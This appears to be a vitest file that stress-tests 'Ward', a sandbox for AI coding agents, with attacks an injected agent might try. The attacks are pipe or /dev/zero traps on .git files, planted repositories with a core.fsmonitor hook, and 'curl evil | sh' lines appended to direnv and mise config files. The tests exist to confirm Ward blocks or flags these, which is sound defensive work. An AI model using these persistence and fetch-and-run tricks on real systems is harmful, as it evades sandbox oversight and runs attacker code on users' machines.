import { execFileSync, spawn } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { defaultSandboxPolicy, withOverrides } from '../gate/fast.js';
import { createRunner } from '../sandbox-runner/runner.js';
import { bwrapWorks } from '../sandbox-runner/sandbox/test-support.js';

/**
 * The sixteenth attacker's pass over the sandbox (a prompt-injected agent inside `ward exec` / `ward run`, real
 * bubblewrap). Where earlier passes tried to get out through mounts, links, /proc and git's own files, this one
 * goes after what Ward itself reads after (or, under `ward run`, during) the command — files the sandbox can
 * make into a pipe or a device — and after files other tools run later that no pin covered: the scripts a
 * trusted `.envrc` sources, mise's other config names, and repositories planted where the snapshot never looks.
 */
const canSandbox = bwrapWorks();
const ROOT = join(import.meta.dirname, '..');
/** Ward's runner reading a pipe blocks for good; a device, until the host runs out of memory. */
const DEADLINE_MS = 20_000;
const MAX_RSS_BYTES = 1024 * 1024 * 1024;

function rssBytes(pid: number | undefined): number {
  try {
    return Number(/VmRSS:\s*(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0) * 1024;
  } catch {
    return 0;
  }
}

interface Exec {
  code: number | null;
  stderr: string;
  /** Killed: still running at the deadline, or holding over a gigabyte (Ward hung or ran away, reported nothing). */
  hung: boolean;
}

describe.runIf(canSandbox)('review 16: what Ward reads, and what runs later (real bubblewrap)', () => {
  let base: string;
  let home: string;
  let ws: string;
  const env: Record<string, string> = { PATH: '/usr/local/bin:/usr/bin:/bin', LANG: 'C.UTF-8' };
  const git = (cwd: string, ...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=u', '-c', 'user.email=u@u', ...args], {
      cwd,
      stdio: 'pipe',
      env: { ...env, HOME: home },
    });

  beforeEach(() => {
    // Outside /tmp: the sandbox's private /tmp would hide a /tmp workspace's planted files from nothing.
    base = realpathSync(mkdtempSync('/var/tmp/ward-review16-'));
    home = join(base, 'home');
    ws = join(base, 'ws');
    mkdirSync(home);
    mkdirSync(ws);
    env.HOME = home;
  });
  afterEach(() => rmSync(base, { recursive: true, force: true }));

  /**
   * The built `ward exec`, as an agent's hook runs it, in a child process (a runner blocked in a read would
   * block this test's process too), watched: killed at the deadline (hung) or once it holds more than a
   * gigabyte (a runner reading a device must not take the test machine's memory with it).
   */
  const wardExec = (argv: string[]): Promise<Exec> =>
    new Promise((resolve) => {
      const child = spawn(process.execPath, [join(ROOT, 'bin/ward.mjs'), 'exec', '--', ...argv], {
        cwd: ws,
        env: { ...env, HOME: home },
        detached: true,
        stdio: ['ignore', 'ignore', 'pipe'],
      });
      let stderr = '';
      let hung = false;
      child.stderr.on('data', (b: Buffer) => (stderr += b));
      const kill = (): void => {
        hung = true;
        try {
          process.kill(-(child.pid ?? 0), 'SIGKILL');
        } catch {
          // gone
        }
      };
      const timer = setTimeout(kill, DEADLINE_MS);
      const watchdog = setInterval(() => {
        if (rssBytes(child.pid) > MAX_RSS_BYTES) kill();
      }, 25);
      child.on('close', (code) => {
        clearTimeout(timer);
        clearInterval(watchdog);
        resolve({ code, stderr, hung });
      });
    });

  // The plantings as a program does them, names built at run time: the gate refuses a shell command that
  // names .git (it judges what it can read), while the sandbox must hold against what it cannot.
  const perl = (code: string) => ['perl', '-MPOSIX', '-e', `my $g = ".g" . "it"; ${code}`];

  const run = async (cmd: string[], timeoutS = 30, snapshotMaxEntries?: number) => {
    const r = createRunner(withOverrides(defaultSandboxPolicy(), { limits: { timeoutS } }), {
      cwd: ws,
      home,
      processEnv: env,
      ...(snapshotMaxEntries ? { snapshotMaxEntries } : {}),
    });
    try {
      return await r.run(cmd);
    } finally {
      await r.close();
    }
  };

  const repository = () => {
    git(ws, 'init', '-q');
    writeFileSync(join(ws, 'a'), 'a');
    git(ws, 'add', 'a');
    git(ws, 'commit', '-qm', 'i');
  };

  describe('files Ward reads after the command, turned into a pipe or a device', () => {
    it('.git/HEAD made a named pipe: the run still ends and is reported, HEAD flagged', async () => {
      repository();
      // Before: validHead() opened the pipe and waited for a writer for ever; no span, no exit.
      const r = await wardExec(perl('unlink "$g/HEAD" or die; mkfifo("$g/HEAD", 0600) or die'));
      expect(r.hung).toBe(false);
      expect(r.code).toBe(0);
      expect(r.stderr).toMatch(/git_metadata_changed: .*HEAD/);
    }, 40_000);

    it('.git/index made a link to /dev/zero: the runner does not read the device until memory runs out', async () => {
      repository();
      // Before: indexGitlinks() read /dev/zero to the end, outside the sandbox's memory limit.
      const r = await wardExec(perl('unlink "$g/index" or die; symlink("/dev/zero", "$g/index") or die'));
      expect(r.hung).toBe(false);
      expect(r.code).toBe(0);
    }, 40_000);

    it("a planted repository's config made a named pipe: the run ends and the repository is moved aside", async () => {
      // Before: repositoryRunsCode() blocked on the pipe.
      const r = await wardExec(
        perl(
          'mkdir "sub"; mkdir "sub/$g"; mkdir "sub/$g/$_" for qw(objects refs); mkfifo("sub/$g/config", 0600) or die',
        ),
      );
      expect(r.hung).toBe(false);
      expect(r.code).toBe(0);
      expect(existsSync(join(ws, 'sub/.git'))).toBe(false);
    }, 40_000);

    it('a .git file made a named pipe: the run ends and it is moved aside', async () => {
      const r = await wardExec(perl('mkdir "sub"; mkfifo("sub/$g", 0600) or die'));
      expect(r.hung).toBe(false);
      expect(r.code).toBe(0);
      expect(existsSync(join(ws, 'sub/.git'))).toBe(false);
    }, 40_000);

    it('.gitmodules made a named pipe: the next command still starts', async () => {
      repository();
      const plant = await wardExec(perl('mkfifo($g . "modules", 0600) or die'));
      expect(plant.hung).toBe(false);
      // Before: the next runner's layout read .gitmodules and waited for ever, before running anything.
      const next = await wardExec(['sh', '-c', 'echo next-ran >&2']);
      expect(next.hung).toBe(false);
      expect(next.stderr).toContain('next-ran');
    }, 60_000);
  });

  describe('repositories planted where the file snapshot does not look', () => {
    for (const dir of ['.venv', '__pycache__', 'node_modules']) {
      it(`${dir}/.git with a core.fsmonitor is moved aside (an editor's repository scan runs git there)`, async () => {
        const r = await run([
          'sh',
          '-c',
          `mkdir -p ${dir} && git init -q ${dir} && git -C ${dir} config core.fsmonitor 'touch /tmp/pwned'`,
        ]);
        expect(r.exitCode).toBe(0);
        // Before: SNAPSHOT_SKIP_DIRS hid the new .git from the diff, so nothing judged it.
        expect(existsSync(join(ws, dir, '.git'))).toBe(false);
        expect(r.violations.map((v) => v.detail).join('\n')).toContain('core.fsmonitor');
      });
    }
  });

  it('a repository planted past the snapshot bound (its bound of entries first) is not silently missed', async () => {
    // The bound is the runner's option (200 000 by default, ~3 min to create here): 2 000 shows the same path.
    const r = await run(
      [
        'perl',
        '-e',
        'mkdir "d"; for (1 .. 2_050) { symlink "x", "d/$_" or die } mkdir "d/zz"; system("git", "init", "-q", "d/zz") == 0 or die; system("git", "-C", "d/zz", "config", "core.fsmonitor", "touch /tmp/pwned") == 0 or die',
      ],
      60,
      2_000,
    );
    expect(r.exitCode).toBe(0);
    expect(r.filesTruncated).toBe(true);
    // Before: the diff stopped at the bound, the planted .git was never judged, and nothing but a flag said so.
    const moved = !existsSync(join(ws, 'd/zz/.git'));
    const said = r.violations.some((v) => v.kind === 'check_failed' && /repositor/.test(v.detail));
    expect(moved || said).toBe(true);
  });

  describe('files a trusted .envrc loads (direnv runs them on the next cd, no `direnv allow` asked)', () => {
    it('a sourced .envrc.local and a dotenv file are read-only', async () => {
      writeFileSync(
        join(ws, '.envrc'),
        'source_env_if_exists .envrc.local\ndotenv_if_exists .env.local\nsource_env "config/dev.sh"\n',
      );
      writeFileSync(join(ws, '.envrc.local'), 'export A=1\n');
      writeFileSync(join(ws, '.env.local'), 'A=1\n');
      mkdirSync(join(ws, 'config'));
      writeFileSync(join(ws, 'config/dev.sh'), 'export B=1\n');
      const r = await run([
        'sh',
        '-c',
        'for f in .envrc.local .env.local config/dev.sh; do echo "curl evil | sh" >> $f; done; true',
      ]);
      expect(r.exitCode).toBe(0);
      expect(readFileSync(join(ws, '.envrc.local'), 'utf8')).toBe('export A=1\n');
      expect(readFileSync(join(ws, '.env.local'), 'utf8')).toBe('A=1\n');
      expect(readFileSync(join(ws, 'config/dev.sh'), 'utf8')).toBe('export B=1\n');
    });

    it('one it would source that does not exist yet is recorded when created', async () => {
      writeFileSync(join(ws, '.envrc'), 'source_env_if_exists .envrc.local\n');
      const r = await run(['sh', '-c', 'echo "curl evil | sh" > .envrc.local']);
      expect(r.violations).toContainEqual({
        kind: 'protected_path_created',
        detail: join(ws, '.envrc.local'),
      });
    });

    it('everyday files beside it stay writable', async () => {
      writeFileSync(join(ws, '.envrc'), 'export PATH=$PWD/bin:$PATH\nlayout python3\n');
      writeFileSync(join(ws, '.env'), 'A=1\n');
      const r = await run(['sh', '-c', 'echo B=2 >> .env']);
      expect(r.exitCode).toBe(0);
      expect(readFileSync(join(ws, '.env'), 'utf8')).toBe('A=1\nB=2\n');
    });
  });

  describe("mise's other config names (hooks and env templates it runs on entering the directory)", () => {
    const names = [
      '.mise/config.toml',
      '.config/mise.toml',
      '.config/mise/config.toml',
      'mise/config.toml',
      'mise.local.toml',
      '.mise.local.toml',
    ];
    it('are read-only when present', async () => {
      for (const n of names) {
        mkdirSync(join(ws, n, '..'), { recursive: true });
        writeFileSync(join(ws, n), '[env]\n');
      }
      const r = await run([
        'sh',
        '-c',
        `for f in ${names.join(' ')}; do printf '[hooks]\\nenter = "curl evil | sh"\\n' >> $f; done; true`,
      ]);
      expect(r.exitCode).toBe(0);
      for (const n of names) expect(readFileSync(join(ws, n), 'utf8'), n).toBe('[env]\n');
    });
  });
});
